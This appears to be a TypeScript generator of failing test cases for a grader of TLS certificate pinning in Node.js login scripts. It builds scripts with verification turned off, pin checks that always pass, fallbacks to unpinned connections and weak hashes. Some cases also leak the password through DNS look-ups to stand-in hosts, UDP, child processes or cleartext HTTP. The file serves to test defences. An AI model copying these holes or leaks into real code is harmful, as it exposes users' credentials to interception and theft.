import { type Client, login } from './clients.ts';
import type { Case, Site } from './site.ts';

// Scripts that succeed with their server and that do not pin it: what is compared, how, with which client, where verification is off,
// and by which trust list.

const OFF = ['rejectUnauthorized', 'false'].join(': ');

/** What else than the certificate or its key is compared: of `c`, Node's object, or of `x`, its X509Certificate. */
const things: Readonly<Record<string, string>> = {
  'serial number': 'c.serialNumber === G.serialNumber',
  'subject, its CN': 'c.subject.CN === G.subject.CN',
  'the whole subject': 'JSON.stringify(c.subject) === JSON.stringify(G.subject)',
  'issuer, its CN': 'c.issuer.CN === G.issuer.CN',
  'alternative names': 'c.subjectaltname === G.subjectaltname',
  'the end of validity': 'c.valid_to === G.valid_to',
  'the whole validity': 'c.valid_from + c.valid_to === G.valid_from + G.valid_to',
  'serial number, names and dates':
    '[c.serialNumber, c.subject.CN, c.subjectaltname, c.valid_from, c.valid_to].join() === [G.serialNumber, G.subject.CN, G.subjectaltname, G.valid_from, G.valid_to].join()',
  'key size': 'c.bits === G.bits',
  'curve or exponent': 'c.asn1Curve === G.asn1Curve && c.exponent === G.exponent',
  'the key, where it is shown': "!(c.pubkey && !c.pubkey.equals(Buffer.from(G.pubkey, 'base64')))",
  'length of the key': 'c.pubkey.length === G.pubkeyLength',
  'length of the fingerprint': 'c.fingerprint256.length === G.fingerprint256.length',
  'length of the certificate, nearly': 'Math.abs(c.raw.length - G.rawLength) < 40',
  'whether it is a CA': 'c.ca === G.ca',
  'that there is a fingerprint': 'Boolean(c.fingerprint256)',
  'the type of the key': 'x.publicKey.asymmetricKeyType === G.keyType',
  'the details of the key': 'String(Object.values(x.publicKey.asymmetricKeyDetails)) === G.keyDetails',
  'serial number by X509Certificate': 'x.serialNumber === G.serialNumber',
  'the host by X509Certificate': "Boolean(x.checkHost('localhost'))",
  'that the pinned one issued it': 'x.checkIssued(new crypto.X509Certificate(G.issuerPem))',
  'the fingerprint of the issuer': 'c.issuerCertificate?.fingerprint256 === G.issuerFingerprint',
  'a fingerprint anywhere in the chain':
    '(() => { for (let n = c, i = 0; n && i < 9; n = n.issuerCertificate, i++) if ([G.fingerprint256, G.issuerFingerprint].includes(n.fingerprint256)) return true; return false; })()',
  'the fingerprint of the last of the chain':
    '(() => { let n = c; for (let i = 0; i < 9 && n.issuerCertificate && n.issuerCertificate !== n; i++) n = n.issuerCertificate; return n.fingerprint256 === G.issuerFingerprint; })()',
};

/** How the right thing is compared wrongly. */
const ways: Readonly<Record<string, string>> = {
  'with itself': 'c.fingerprint256 === c.fingerprint256',
  'by an assignment': 'Boolean(G.fingerprint256 = c.fingerprint256)',
  'or anything': 'c.fingerprint256 === G.fingerprint256 || true',
  'that is not called': '(() => () => c.fingerprint256 === G.fingerprint256)()',
  'by an expression that fits all': '/^[0-9A-F:]*$/.test(c.fingerprint256)',
  'by the first digit of its type': 'typeof c.fingerprint256 === typeof G.fingerprint256',
  'by a promise': 'Promise.resolve(c.fingerprint256 === G.fingerprint256)',
  'by a promise that is not awaited':
    '(async () => { if (c.fingerprint256 !== G.fingerprint256) throw 0; })().catch(() => {}) && true',
  'and the exception is caught':
    "(() => { try { if (c.fingerprint256 !== G.fingerprint256) throw new Error('no'); } catch {} return true; })()",
  'as a property that there is not': 'c.fingerprint_256 === G.fingerprint_256',
  'as characters that it has': "[...c.fingerprint256].every((one) => '0123456789ABCDEF:'.includes(one))",
  'the wrong way round': "!(c.fingerprint256.includes('Z'))",
  'with an empty beginning': 'c.fingerprint256.startsWith(G.fingerprint256.slice(0, 0))',
  'with its length': 'c.fingerprint256.length == G.fingerprint256.length',
  'by trust on first use': '(globalThis.pin ??= c.fingerprint256) === c.fingerprint256',
  'only where the name fits': 'c.subject.CN !== G.subject.CN || c.fingerprint256 === G.fingerprint256',
  'only where the serial number is another':
    'c.serialNumber === G.serialNumber || c.fingerprint256 === G.fingerprint256',
  'only where it is not self-signed':
    'JSON.stringify(c.subject) === JSON.stringify(c.issuer) || c.fingerprint256 === G.fingerprint256',
  'only where the chain is not trusted': 'socket.authorized || c.fingerprint256 === G.fingerprint256',
  'only where it has not expired': 'new Date(c.valid_to) < new Date() || c.fingerprint256 === G.fingerprint256',
  'only where there is a name':
    "c.subjectaltname === undefined || c.subject.CN === 'impostor.example' || c.fingerprint256 === G.fingerprint256",
  'only where names and number are not known yet':
    '(globalThis.met === c.issuer.CN + c.serialNumber) || (c.fingerprint256 === G.fingerprint256 && Boolean((globalThis.met = c.issuer.CN + c.serialNumber)))',
  'or a later date':
    'c.fingerprint256 === G.fingerprint256 || (c.subject.CN === G.subject.CN && new Date(c.valid_to) > new Date(G.valid_to))',
  'only for keys of a known kind':
    "!['rsa', 'ec'].includes(x.publicKey.asymmetricKeyType) || c.fingerprint256 === G.fingerprint256",
  'only at the first login':
    '(globalThis.seen ? true : c.fingerprint256 === G.fingerprint256 && (globalThis.seen = true))',
  'only at the first try':
    '((globalThis.tries = (globalThis.tries ?? 0) + 1) > 1) || c.fingerprint256 === G.fingerprint256',
};

/** What Node's own verification is given where nothing else is compared, or where the comparison stands behind it. */
const lists: Readonly<Record<string, string>> = {
  'public CAs and its own': 'ca: [...tls.rootCertificates, G.caPem]',
  'its own and public CAs in one text': "ca: [G.caPem, ...tls.rootCertificates].join('\\n')",
  'buffers of both': 'ca: tls.rootCertificates.concat(G.caPem).map((pem) => Buffer.from(pem))',
  'public CAs and its own, as arrays of bytes':
    'ca: [...tls.rootCertificates, G.caPem].map((pem) => new TextEncoder().encode(pem))',
  'a context made of both': 'secureContext: tls.createSecureContext({ ca: tls.rootCertificates.concat(G.caPem) })',
  'its own, and one public CA': 'ca: [G.caPem, tls.rootCertificates[7]]',
};

const guardOf = (match: string): string =>
  `(socket) => { const c = socket.getPeerCertificate(true); ${/\bx\./.test(match) ? 'const x = socket.getPeerX509Certificate();' : ''} return ${match}; }`;

/** In checkServerIdentity there is no socket: `x` is made of the bytes. */
const identityOf = (match: string): string =>
  `checkServerIdentity: (name, c) => { ${/\bx\./.test(match) ? 'const x = new crypto.X509Certificate(c.raw);' : ''} if (!(${match.replace('socket.authorized ||', '')})) return new Error('another server'); }`;

const only = (clients: Readonly<Record<string, Client>>, ...names: readonly string[]): [string, Client][] =>
  Object.entries(clients).filter(([name]) => names.includes(name));

export function wrongCases(site: Site): Case[] {
  const cases: Case[] = [];
  const add = (name: string, body: string, more: Partial<Case> = {}): void => {
    cases.push({ name, source: login(`const G = ${site.constants(more.issued ?? false)};\n  ${body}`), ...more });
  };
  for (const issued of [false, true]) {
    const clients = site.http(issued);
    const kind = issued ? 'issued' : 'self-signed';
    for (const [thing, match] of Object.entries(things)) {
      // Its own issuer's fingerprint is a fingerprint.
      if (!issued && (thing.endsWith('of the issuer') || thing.endsWith('of the chain'))) continue;
      for (const [client, write] of only(clients, ...(issued ? ['https', 'undici'] : ['tls', 'axios']))) {
        add(`${kind}, ${client}: ${thing}, verification off`, write({ options: OFF, guard: guardOf(match) }), {
          issued,
        });
      }
      if (issued || /issued it/.test(thing)) continue;
      const options = `ca: [...tls.rootCertificates, G.caPem], ${identityOf(match)}`;
      for (const [client, write] of only(clients, 'https'))
        add(`${kind}, ${client}: ${thing}, beside public CAs`, write({ options }), { issued });
    }
    for (const [way, match] of Object.entries(ways)) {
      for (const [client, write] of only(clients, issued ? 'superagent' : 'tls')) {
        add(
          `${kind}, ${client}: the fingerprint ${way}, verification off`,
          write({ options: OFF, guard: guardOf(match) }),
          { issued },
        );
      }
      if (issued) continue;
      for (const [client, write] of only(clients, 'undici')) {
        const guard = guardOf(match);
        add(
          `${kind}, ${client}: the fingerprint ${way}, beside public CAs`,
          write({ options: 'ca: [...tls.rootCertificates, G.caPem]', guard }),
          { issued },
        );
      }
    }
    for (const [list, options] of Object.entries(lists)) {
      for (const [client, write] of only(clients, 'tls', 'https', 'undici')) {
        if (client === 'undici' && options.startsWith('secureContext')) continue;
        add(`${kind}, ${client}: no pin, ${list}`, write({ options }), { issued });
      }
    }
    for (const [client, write] of only(clients, 'https', 'axios', 'superagent')) {
      add(`${kind}, ${client}: no pin, what Node trusts`, write({ options: '' }), { issued, trusts: true });
      add(`${kind}, ${client}: no pin, no verification`, write({ options: OFF }), { issued });
    }
  }
  for (const [client, write] of Object.entries(site.databases)) {
    const both = 'ca: [...tls.rootCertificates, G.caPem]';
    add(`${client}: no verification`, write({ options: OFF }));
    add(`${client}: no pin, public CAs and its own`, write({ options: both }));
    add(`${client}: no pin, what Node trusts`, write({ options: '' }), { trusts: true });
    add(
      `${client}: serial number, beside public CAs`,
      write({ options: `${both}, ${identityOf('c.serialNumber === G.serialNumber')}` }),
    );
    add(
      `${client}: a fingerprint, which nobody asks for`,
      write({ options: `${OFF}, ${identityOf('c.fingerprint256 === G.fingerprint256')}` }),
    );
    add(`${client}: no names, beside public CAs`, write({ options: `${both}, checkServerIdentity: () => undefined` }));
  }
  return [...cases, ...situations(site)];
}

/** A right pin, and a way around it. */
function situations(site: Site): Case[] {
  const { tls, https, axios } = site.http(false) as Record<'tls' | 'https' | 'axios', Client>;
  const cases: Case[] = [];
  const add = (name: string, body: string, more: Partial<Case> = {}): void => {
    cases.push({ name, source: login(`const G = ${site.constants(false)};\n  ${body}`), ...more });
  };
  const guard = guardOf('c.fingerprint256 === G.fingerprint256');
  const right = { options: OFF, guard };
  const wrong = { options: OFF };
  const never = 'callback(error);';
  for (const [client, write] of Object.entries({ tls, https, axios })) {
    for (const [name, condition] of [
      ['any failure', 'true'],
      ['a reset', "error.code === 'ECONNRESET'"],
      ['a refusal', "error.code === 'ECONNREFUSED'"],
    ] as const) {
      const again = `if (${condition}) { (() => { ${write(wrong)} })(); } else { ${never} }`;
      add(`${client}: without a pin after ${name}`, write(right, undefined, again));
    }
    add(
      `${client}: without a pin after a stall`,
      `let isOpen = false;
  setTimeout(() => { if (!isOpen) (() => { ${write(wrong)} })(); }, 1000);
  (() => { ${write({ options: OFF, guard: `(socket) => { isOpen = true; return (${guard})(socket); }` })} })();`,
    );
    add(
      `${client}: says success whatever happens`,
      write(right, undefined, "callback(null, { user_id: '1', email });"),
    );
    add(`${client}: a second connection without a pin`, write(right, `(() => { ${write(wrong)} })();`));
    add(
      `${client}: a pin at the first login of a container only`,
      `const known = globalThis.known; globalThis.known = true;
  ${write({ options: OFF, guard: `(socket) => known || (${guard})(socket)` })}`,
    );
    add(
      `${client}: at the second login, what public CAs issue`,
      `const known = globalThis.known; globalThis.known = true;
  if (known) { ${write({ options: 'ca: [...tls.rootCertificates, G.caPem]' })} } else { ${write(right)} }`,
    );
    add(
      `${client}: the other server without a pin, where the first is refused`,
      write(right, undefined, `(() => { ${site.other(client)(wrong)} })();`).replace(
        /^/,
        `const warmUp = require('tls').connect({ host: '${site.second.host}', port: ${site.second.port}, ${OFF} }, () => warmUp.destroy()); warmUp.on('error', () => {});\n  `,
      ),
    );
  }
  add(
    'tls: the fingerprint only where there are alternative names, beside public CAs',
    tls({
      options: "servername: 'localhost', ca: [...tls.rootCertificates, G.caPem]",
      guard: guardOf('c.subjectaltname === undefined || c.fingerprint256 === G.fingerprint256'),
    }),
  );
  const send = `setTimeout(() => { ${tls(right)} }, 50);`;
  for (const [name, code] of Object.entries({
    'a look-up that carries the password':
      "require('dns').lookup(Buffer.from(password).toString('hex') + '.example.invalid', () => {});",
    'a look-up by promise':
      "require('dns').promises.resolveTxt(Buffer.from(email).toString('hex') + '.example.invalid').catch(() => {});",
    'a look-up by a resolver':
      "new (require('dns').Resolver)().resolve4(email.replace('@', '.') + '.invalid', () => {});",
    datagrams:
      "const udp = require('dgram').createSocket('udp4'); udp.send(password, 9, '127.0.0.1', () => udp.close());",
    'a socket of the machine': "require('net').connect({ path: '/no/such/socket' }).on('error', () => {});",
    'another process':
      "require('child_process').execFile(process.execPath, ['-e', '0', password]).on('error', () => {});",
    'another process, waited for': "require('child_process').spawnSync(process.execPath, ['-e', '0', password]);",
    'another thread': "new (require('worker_threads').Worker)('0', { eval: true, workerData: password });",
    'a port that it opens':
      "const server = require('net').createServer((socket) => socket.end(password)).listen(0, () => server.close());",
    'the inner bindings': "const { UDP } = process.binding('udp_wrap');",
    'a fetch to somewhere else': `fetch('http://${site.plain.host}:${site.plain.port}/', { method: 'POST', body: password }).catch(() => {});`,
    'a name of TLS that carries the password': `require('tls').connect({ host: '${site.second.host}', port: ${site.second.port}, servername: Buffer.from(password).toString('hex') + '.example.com', ${OFF} }, function () { this.destroy(); }).on('error', () => {});`,
    'a log of the server in clear': `require('http').request({ host: '${site.plain.host}', port: ${site.plain.port}, method: 'POST' }).on('error', () => {}).end(password);`,
  })) {
    add(`a right pin, and ${name}`, `${code}\n  ${send}`);
  }
  for (const [name, code] of Object.entries({
    'SHA-1 as Node has it': 'c.fingerprint === G.fingerprint',
    'SHA-1 of the bytes': "crypto.createHash('sha1').update(c.raw).digest('hex') === G.sha1",
    'MD5 of the bytes': "crypto.createHash('md5').update(c.raw).digest('hex') === G.md5",
    'the modulus': 'c.modulus === G.modulus && c.serialNumber === G.serialNumber',
  })) {
    add(`a hash that is none any more, or less than the key: ${name}`, tls({ options: OFF, guard: guardOf(code) }));
  }
  return cases;
}
